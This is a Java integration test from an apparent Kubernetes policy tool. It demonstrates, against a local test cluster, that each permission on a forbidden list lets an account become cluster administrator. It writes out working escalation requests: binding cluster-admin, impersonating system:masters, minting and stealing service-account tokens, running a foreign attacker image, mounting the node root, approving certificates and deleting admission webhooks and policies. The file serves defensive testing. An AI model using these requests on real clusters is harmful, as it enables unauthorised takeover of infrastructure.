package dev.sallyport.it;

import static java.util.Map.entry;
import static java.util.concurrent.TimeUnit.SECONDS;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.fabric8.kubernetes.client.utils.KubernetesSerialization;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.Base64;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Accounts that become administrators on a real API server by the permissions that policies forbid. Every permission of
 * {@code src/test/resources/rbac/escalations.yaml} is acted out.
 *
 * <p>The victim is an account with all permissions, as controllers in kube-system have. The cluster has no kubelet; where a
 * Pod of the attacker would run, the test gets the token that its kubelet would get, which the API server issues only for a
 * Pod that exists and has that account.
 */
class EscalationIT {
    private static final KubernetesSerialization YAML = new KubernetesSerialization();
    private static final String FOREIGN_IMAGE = "registry.example.org/attacker/shell:1";

    /** Attack of an account; returns normally if it is successful. */
    private interface Attack {
        void run(EscalationIT test, Attacker attacker);
    }

    private static final Map<String, Attack> ATTACKS = Map.ofEntries(
            entry("ESCALATE", EscalationIT::escalate),
            entry("BIND", EscalationIT::bind),
            entry("IMPERSONATE", EscalationIT::impersonate),
            entry("CREATE_TOKENS", EscalationIT::createToken),
            entry("READ_SECRETS", EscalationIT::readSecrets),
            entry("CHANGE_SECRETS", EscalationIT::changeSecrets),
            entry(
                    "RUN_COMMANDS",
                    (test, attacker) -> test.reachContainer(attacker, "exec", "?command=sh&container=c&stdout=1")),
            entry("ATTACH", (test, attacker) -> test.reachContainer(attacker, "attach", "?container=c&stdin=1")),
            entry("ADD_CONTAINERS", EscalationIT::addContainer),
            entry("CREATE_PODS", EscalationIT::createPod),
            entry("CHANGE_PODS", EscalationIT::changePod),
            entry("WRITE_WORKLOADS", EscalationIT::createWorkload),
            entry("ACCESS_KUBELETS", EscalationIT::accessKubelet),
            entry("CREATE_VOLUMES", EscalationIT::createVolume),
            entry("APPROVE_REQUESTS", EscalationIT::approveCertificate),
            entry("APPROVE_SIGNERS", EscalationIT::approveCertificate),
            entry("CHANGE_NAMESPACES", EscalationIT::changeNamespace),
            entry("CHANGE_WEBHOOKS", EscalationIT::deleteWebhook),
            entry("CHANGE_ADMISSION_POLICIES", EscalationIT::deleteAdmissionPolicy),
            entry("CHANGE_APIS", EscalationIT::deleteApi),
            entry("CHANGE_POLICIES", EscalationIT::deletePolicy),
            entry("CHANGE_TRUST_ROOTS", EscalationIT::createTrustRoot),
            entry("CHANGE_ENVIRONMENTS", EscalationIT::deleteEnvironment),
            entry("APPROVE_EXCEPTIONS", EscalationIT::approveException));

    private final LocalCluster cluster = LocalCluster.get();

    static Stream<String> escalations() throws IOException {
        return roles().keySet().stream();
    }

    @Test
    void everyEscalationIsActedOut() throws IOException {
        assertThat(roles().keySet()).isEqualTo(new TreeMap<>(ATTACKS).keySet());
    }

    @ParameterizedTest
    @MethodSource("escalations")
    void accountBecomesAdministrator(String escalation) throws IOException {
        var attacker = new Attacker(cluster, Serialization.asJson(roles().get(escalation)));
        assertThat(attacker.isAdministrator()).isFalse();

        ATTACKS.get(escalation).run(this, attacker);
    }

    private static Map<String, Object> roles() throws IOException {
        Map<?, ?> all =
                YAML.unmarshal(Files.readString(Path.of("src/test/resources/rbac/escalations.yaml")), Map.class);
        var roles = new TreeMap<String, Object>();
        all.forEach((name, rules) -> roles.put(String.valueOf(name), rules));
        return roles;
    }

    private void escalate(Attacker attacker) {
        assertThat(attacker.patch(
                                "apis/rbac.authorization.k8s.io/v1/clusterroles/" + attacker.role(),
                                "{\"rules\":[{\"apiGroups\":[\"*\"],\"resources\":[\"*\"],\"verbs\":[\"*\"]}]}")
                        .code())
                .isEqualTo(200);
        await().atMost(10, SECONDS).until(attacker::isAdministrator);
    }

    private void bind(Attacker attacker) {
        assertThat(attacker.post("apis/rbac.authorization.k8s.io/v1/clusterrolebindings", """
            {"metadata": {"generateName": "mine-"},
             "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
             "subjects": [{"kind": "ServiceAccount", "name": "attacker", "namespace": "%s"}]}
            """.formatted(
                                        attacker.namespace()))
                        .code())
                .isEqualTo(201);
        await().atMost(10, SECONDS).until(attacker::isAdministrator);
    }

    private void impersonate(Attacker attacker) {
        assertThat(attacker.getAs("api/v1/namespaces/kube-system/secrets", "system:masters")
                        .code())
                .isEqualTo(200);
        assertThat(attacker.get("api/v1/namespaces/kube-system/secrets").code()).isEqualTo(403);
    }

    private void createToken(Attacker attacker) {
        var victim = victim();
        var response = attacker.post("api/v1/namespaces/%s/serviceaccounts/victim/token".formatted(victim), """
            {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
            """);
        assertThat(response.code()).isEqualTo(201);
        assertThat(attacker.isAdministrator(field(response.body(), "status", "token")))
                .isTrue();
    }

    private void readSecrets(Attacker attacker) {
        var victim = secret();
        assertThat(attacker.isAdministrator(token(attacker.get("api/v1/namespaces/%s/secrets".formatted(victim))
                        .body())))
                .isTrue();
    }

    private void changeSecrets(Attacker attacker) {
        var path = "api/v1/namespaces/%s/secrets".formatted(secret());
        assertThat(attacker.get(path + "/victim").code()).isEqualTo(403);
        assertThat(attacker.isAdministrator(
                        token(attacker.patch(path + "/victim?dryRun=All", "{}").body())))
                .isTrue();
        var deleter = new Attacker(cluster, "[{apiGroups: [''], resources: [secrets], verbs: [deletecollection]}]");
        assertThat(deleter.isAdministrator(
                        token(deleter.delete(path + "?dryRun=All").body())))
                .isTrue();
    }

    /** The API server asks for the WebSocket or SPDY connection to the container, which others may not open. */
    private void reachContainer(Attacker attacker, String subresource, String query) {
        var victim = victim();
        pod(victim, "");
        var path = "api/v1/namespaces/%s/pods/target/%s%s".formatted(victim, subresource, query);
        var other = new Attacker(cluster, "[{apiGroups: [''], resources: [pods], verbs: [list]}]");
        assertThat(other.post(path, "").code()).isEqualTo(403);
        assertThat(attacker.post(path, "").code()).isNotEqualTo(403);
    }

    private void accessKubelet(Attacker attacker) {
        try (var kubelet = new RecordingKubelet()) {
            var node = node(kubelet);
            attacker.post("api/v1/nodes/%s/proxy/run/kube-system/etcd/etcd?cmd=id".formatted(node), "");
            assertThat(kubelet.requests()).anyMatch(path -> path.startsWith("/run/kube-system/etcd/etcd"));
        }
    }

    private void addContainer(Attacker attacker) {
        var victim = victim();
        pod(victim, "");
        assertThat(attacker.patch(
                                "api/v1/namespaces/%s/pods/target/ephemeralcontainers".formatted(victim),
                                """
                                {"spec": {"ephemeralContainers": [{"name": "shell", "image": "%s"}]}}
                                """.formatted(FOREIGN_IMAGE))
                        .code())
                .isEqualTo(200);
        assertForeignImageHasToken(attacker, victim, "target");
    }

    private void createPod(Attacker attacker) {
        var victim = victim();
        assertThat(attacker.post("api/v1/namespaces/%s/pods".formatted(victim), """
            {"metadata": {"name": "mine"},
             "spec": {"serviceAccountName": "victim", "containers": [{"name": "c", "image": "%s"}]}}
            """.formatted(FOREIGN_IMAGE))
                        .code())
                .isEqualTo(201);
        assertForeignImageHasToken(attacker, victim, "mine");
    }

    private void changePod(Attacker attacker) {
        var victim = victim();
        pod(victim, "");
        var patch = "{\"spec\":{\"containers\":[{\"name\":\"c\",\"image\":\"%s\"}]}}".formatted(FOREIGN_IMAGE);
        assertThat(attacker.strategicPatch("api/v1/namespaces/%s/pods/target".formatted(victim), patch)
                        .code())
                .isEqualTo(200);
        assertForeignImageHasToken(attacker, victim, "target");
    }

    private void createWorkload(Attacker attacker) {
        var victim = victim();
        assertThat(attacker.post("apis/apps/v1/namespaces/%s/deployments".formatted(victim), """
            {"metadata": {"name": "mine"}, "spec": {"selector": {"matchLabels": {"app": "mine"}}, "template": {
              "metadata": {"labels": {"app": "mine"}},
              "spec": {"serviceAccountName": "victim", "containers": [{"name": "c", "image": "%s"}]}}}}
            """.formatted(
                                        FOREIGN_IMAGE))
                        .code())
                .isEqualTo(201);
        await().atMost(30, SECONDS)
                .until(() -> !cluster.kubectl("get", "pods", "-n", victim, "-o", "name")
                        .out()
                        .isBlank());
        var name =
                cluster.kubectl("get", "pods", "-n", victim, "-o", "name").out().strip();
        assertForeignImageHasToken(attacker, victim, name.substring("pod/".length()));
    }

    /** A Pod under the standard restricted mounts the root directory of its node. */
    private void createVolume(Attacker attacker) {
        var namespace = cluster.namespace("restricted");
        cluster.kubectl("label", "namespace", namespace, "pod-security.kubernetes.io/enforce=restricted")
                .succeeded();
        assertThat(attacker.post("api/v1/persistentvolumes", """
            {"metadata": {"name": "%1$s"}, "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"],
              "storageClassName": "", "claimRef": {"namespace": "%1$s", "name": "root"}, "hostPath": {"path": "/"}}}
            """.formatted(namespace))
                        .code())
                .isEqualTo(201);
        cluster.apply("""
            apiVersion: v1
            kind: PersistentVolumeClaim
            metadata: {name: root, namespace: %1$s}
            spec: {storageClassName: "", volumeName: %1$s, accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}
            ---
            apiVersion: v1
            kind: Pod
            metadata: {name: reader, namespace: %1$s}
            spec:
              securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}
              volumes: [{name: root, persistentVolumeClaim: {claimName: root}}]
              containers:
                - name: c
                  image: nginx
                  securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
                  volumeMounts: [{name: root, mountPath: /host}]
            """.formatted(namespace), "create", "-f", "-").succeeded();
        await().atMost(30, SECONDS)
                .until(() -> cluster.kubectl("get", "pvc", "root", "-n", namespace, "-o", "jsonpath={.status.phase}")
                        .out()
                        .equals("Bound"));
    }

    /** The controller manager signs every approved request; the user of the certificate has all permissions. */
    private void approveCertificate(Attacker attacker) {
        var name = attacker.namespace();
        var path = "apis/certificates.k8s.io/v1/certificatesigningrequests";
        var request = Base64.getEncoder()
                .encodeToString(certificateRequest("release-manager").getBytes(StandardCharsets.UTF_8));
        var created = attacker.post(path, """
            {"metadata": {"name": "%s"}, "spec": {"request": "%s", "usages": ["client auth"],
             "signerName": "kubernetes.io/kube-apiserver-client"}}
            """.formatted(name, request));
        assertThat(created.code()).as(created.body()).isEqualTo(201);
        var approval = created.body().replace("\"status\":{}", """
            "status":{"conditions":[{"type":"Approved","status":"True","reason":"Mine","message":"mine"}]}\
            """);
        var approved = attacker.put("%s/%s/approval".formatted(path, name), approval);
        assertThat(approved.code()).as(approved.body()).isEqualTo(200);
        assertThat(cluster.kubectl("get", "csr", name).out()).contains("Approved");
    }

    private static String certificateRequest(String user) {
        return Command.run(
                        Map.of(),
                        "",
                        "openssl",
                        "req",
                        "-new",
                        "-newkey",
                        "ec",
                        "-pkeyopt",
                        "ec_paramgen_curve:P-256",
                        "-nodes",
                        "-keyout",
                        "/dev/null",
                        "-subj",
                        "/CN=" + user)
                .succeeded()
                .out();
    }

    private void changeNamespace(Attacker attacker) {
        var namespace = cluster.namespace("guarded");
        cluster.kubectl("label", "namespace", namespace, "pod-security.kubernetes.io/enforce=restricted")
                .succeeded();
        assertThat(privilegedPod(namespace).err()).contains("violates PodSecurity");
        assertThat(attacker.patch("api/v1/namespaces/" + namespace, """
            {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}
            """).code()).isEqualTo(200);
        await().atMost(10, SECONDS).until(() -> privilegedPod(namespace).code() == 0);
    }

    private void deleteWebhook(Attacker attacker) {
        var namespace = cluster.namespace("hooked");
        cluster.apply("""
            apiVersion: admissionregistration.k8s.io/v1
            kind: ValidatingWebhookConfiguration
            metadata: {name: %1$s}
            webhooks:
              - name: guard.example.org
                clientConfig: {url: "https://127.0.0.1:1/"}
                namespaceSelector: {matchLabels: {policy: %1$s}}
                rules: [{apiGroups: [""], apiVersions: [v1], resources: [configmaps], operations: [CREATE]}]
                admissionReviewVersions: [v1]
                sideEffects: None
            """.formatted(namespace), "create", "-f", "-").succeeded();
        await().atMost(20, SECONDS).until(() -> configMap(namespace).code() != 0);
        assertThat(attacker.delete("apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/" + namespace)
                        .code())
                .isEqualTo(200);
        await().atMost(20, SECONDS).until(() -> configMap(namespace).code() == 0);
    }

    private void deleteAdmissionPolicy(Attacker attacker) {
        var namespace = cluster.namespace("ruled");
        cluster.apply("""
            apiVersion: admissionregistration.k8s.io/v1
            kind: ValidatingAdmissionPolicy
            metadata: {name: %1$s}
            spec:
              matchConstraints:
                namespaceSelector: {matchLabels: {policy: %1$s}}
                resourceRules: [{apiGroups: [""], apiVersions: [v1], resources: [configmaps], operations: [CREATE]}]
              validations: [{expression: "false", message: guarded}]
            ---
            apiVersion: admissionregistration.k8s.io/v1
            kind: ValidatingAdmissionPolicyBinding
            metadata: {name: %1$s}
            spec: {policyName: %1$s, validationActions: [Deny]}
            """.formatted(namespace), "create", "-f", "-").succeeded();
        await().atMost(20, SECONDS).until(() -> configMap(namespace).err().contains("guarded"));
        assertThat(attacker.delete(
                                "apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/" + namespace)
                        .code())
                .isEqualTo(200);
        await().atMost(20, SECONDS).until(() -> configMap(namespace).code() == 0);
    }

    /** Without the API, the rules that its objects express are gone. */
    private void deleteApi(Attacker attacker) {
        cluster.apply("""
            apiVersion: apiextensions.k8s.io/v1
            kind: CustomResourceDefinition
            metadata: {name: guards.test.sallyport.dev}
            spec:
              group: test.sallyport.dev
              scope: Cluster
              names: {kind: Guard, plural: guards, singular: guard, listKind: GuardList}
              versions:
                - name: v1
                  served: true
                  storage: true
                  schema: {openAPIV3Schema: {type: object}}
            """, "apply", "-f", "-").succeeded();
        await().atMost(20, SECONDS)
                .until(() -> cluster.apply(
                                        "{apiVersion: test.sallyport.dev/v1, kind: Guard, metadata: {name: g}}",
                                        "apply",
                                        "-f",
                                        "-")
                                .code()
                        == 0);
        assertThat(attacker.delete("apis/apiextensions.k8s.io/v1/customresourcedefinitions/guards.test.sallyport.dev")
                        .code())
                .isEqualTo(200);
        await().atMost(20, SECONDS)
                .until(() -> cluster.kubectl("get", "guards", "g").code() != 0);
    }

    private void deletePolicy(Attacker attacker) {
        var namespace = cluster.namespace("policed");
        cluster.policy(namespace, "podSecurity: {level: baseline}");
        await().atMost(20, SECONDS).until(() -> privilegedPod(namespace).code() != 0);
        assertThat(attacker.delete("apis/sallyport.dev/v1alpha1/deploymentpolicies/" + namespace)
                        .code())
                .isEqualTo(200);
        await().atMost(20, SECONDS).until(() -> privilegedPod(namespace).code() == 0);
    }

    private void createTrustRoot(Attacker attacker) {
        var name = attacker.namespace();
        var created = attacker.post("apis/sallyport.dev/v1alpha1/trustroots", """
            {"apiVersion": "sallyport.dev/v1alpha1", "kind": "TrustRoot", "metadata": {"name": "%s"},
             "spec": {"trustedRoot": {"configMapRef": {"name": "mine", "key": "trusted_root.json"}}}}
            """.formatted(name));
        assertThat(created.code()).as(created.body()).isEqualTo(201);
    }

    private void deleteEnvironment(Attacker attacker) {
        var namespace = cluster.namespace("frozen");
        cluster.environment(namespace, "namespaces: [%s]\ndeployers: RBAC".formatted(namespace));
        cluster.kubectl("create", "rolebinding", "edit", "--clusterrole=edit", "--user=dana", "-n", namespace)
                .succeeded();
        await().atMost(20, SECONDS)
                .untilAsserted(
                        () -> assertThat(deployAs("dana", namespace).err()).contains("access/deployer"));
        assertThat(attacker.delete("apis/sallyport.dev/v1alpha1/environments/" + namespace)
                        .code())
                .isEqualTo(200);
        await().atMost(20, SECONDS)
                .untilAsserted(
                        () -> assertThat(deployAs("dana", namespace).err()).isEmpty());
    }

    private void approveException(Attacker attacker) {
        var namespace = cluster.namespace("excused");
        cluster.policy(namespace, "podSecurity: {level: baseline}");
        var requester = "requester-" + namespace; // other tests rely on the rights of their users
        cluster.kubectl("create", "clusterrolebinding", namespace, "--clusterrole=cluster-admin", "--user=" + requester)
                .succeeded();
        cluster.apply(
                        """
                        apiVersion: sallyport.dev/v1alpha1
                        kind: DeploymentException
                        metadata: {name: legacy, namespace: %1$s}
                        spec:
                          policies: [%1$s]
                          checks: [pod-security/privileged]
                          workloads: [{kind: Pod, name: bad}]
                          reason: migration of the old shop
                          expirationTime: %2$s
                          requestedBy: %3$s
                        """.formatted(
                                        namespace,
                                        Instant.now().plusSeconds(86_400).truncatedTo(ChronoUnit.SECONDS),
                                        requester),
                        "create",
                        "--as=" + requester,
                        "-f",
                        "-")
                .succeeded();
        var approved = attacker.patch(
                "apis/sallyport.dev/v1alpha1/namespaces/%s/deploymentexceptions/legacy".formatted(namespace),
                Approvals.patch(attacker.user(), Approvals.read(cluster, namespace, "legacy")));
        assertThat(approved.code()).as(approved.body()).isEqualTo(200);
        await().atMost(20, SECONDS).until(() -> privilegedPod(namespace).code() == 0);
    }

    private Command.Result deployAs(String user, String namespace) {
        return cluster.kubectl(
                "create", "deployment", "web", "--image=nginx", "-n", namespace, "--dry-run=server", "--as=" + user);
    }

    private Command.Result privilegedPod(String namespace) {
        return cluster.apply("""
            apiVersion: v1
            kind: Pod
            metadata: {name: bad, namespace: %s}
            spec: {containers: [{name: c, image: nginx, securityContext: {privileged: true}}]}
            """.formatted(namespace), "create", "-f", "-");
    }

    private Command.Result configMap(String namespace) {
        return cluster.kubectl("create", "configmap", "settings", "-n", namespace, "--dry-run=server");
    }

    /** Creates an account with all permissions in a namespace of its own, and returns the namespace. */
    private String victim() {
        var namespace = cluster.namespace("victim");
        cluster.kubectl("create", "serviceaccount", "victim", "-n", namespace).succeeded();
        cluster.kubectl(
                        "create",
                        "clusterrolebinding",
                        namespace,
                        "--clusterrole=cluster-admin",
                        "--serviceaccount=%s:victim".formatted(namespace))
                .succeeded();
        return namespace;
    }

    /** Creates a victim with a Secret that contains its token. */
    private String secret() {
        var namespace = victim();
        cluster.apply("""
            apiVersion: v1
            kind: Secret
            metadata: {name: victim, namespace: %s, annotations: {kubernetes.io/service-account.name: victim}}
            type: kubernetes.io/service-account-token
            """.formatted(namespace), "create", "-f", "-").succeeded();
        await().atMost(20, SECONDS)
                .until(() -> !cluster.kubectl(
                                "get", "secret", "victim", "-n", namespace, "-o", "jsonpath={.data.token}")
                        .out()
                        .isBlank());
        return namespace;
    }

    private void pod(String namespace, String more) {
        cluster.apply("""
            apiVersion: v1
            kind: Pod
            metadata: {name: target, namespace: %s}
            spec: {serviceAccountName: victim, containers: [{name: c, image: nginx}]%s}
            """.formatted(namespace, more), "create", "-f", "-").succeeded();
    }

    /** Creates a node whose kubelet is the recording one. */
    private String node(RecordingKubelet kubelet) {
        var name = "node-" + kubelet.port();
        cluster.apply("{apiVersion: v1, kind: Node, metadata: {name: %s}}".formatted(name), "create", "-f", "-")
                .succeeded();
        cluster.kubectl("patch", "node", name, "--subresource=status", "--type=merge", "-p", """
            {"status": {"addresses": [{"type": "InternalIP", "address": "%s"}],
             "daemonEndpoints": {"kubeletEndpoint": {"Port": %d}}}}
            """.formatted(
                                RecordingKubelet.address(), kubelet.port()))
                .succeeded();
        return name;
    }

    /** The Pod has the foreign image; the token that its kubelet requests for it is that of an administrator. */
    private void assertForeignImageHasToken(Attacker attacker, String namespace, String pod) {
        var found = cluster.client().pods().inNamespace(namespace).withName(pod).get();
        assertThat(found.getSpec().getServiceAccountName()).isEqualTo("victim");
        assertThat(Serialization.asJson(found.getSpec())).contains(FOREIGN_IMAGE);
        var token = cluster.kubectl(
                        "create",
                        "token",
                        "victim",
                        "-n",
                        namespace,
                        "--bound-object-kind=Pod",
                        "--bound-object-name=" + pod,
                        "--bound-object-uid=" + found.getMetadata().getUid())
                .succeeded()
                .out()
                .strip();
        assertThat(attacker.isAdministrator(token)).isTrue();
    }

    private static String token(String secrets) {
        var start = secrets.indexOf("\"token\":\"") + "\"token\":\"".length();
        assertThat(start).as(secrets).isGreaterThan(10);
        var encoded = secrets.substring(start, secrets.indexOf('"', start));
        return new String(Base64.getDecoder().decode(encoded), StandardCharsets.UTF_8);
    }

    private static String field(String json, String object, String name) {
        Map<?, ?> all = YAML.unmarshal(json, Map.class);
        return String.valueOf(((Map<?, ?>) all.get(object)).get(name));
    }
}
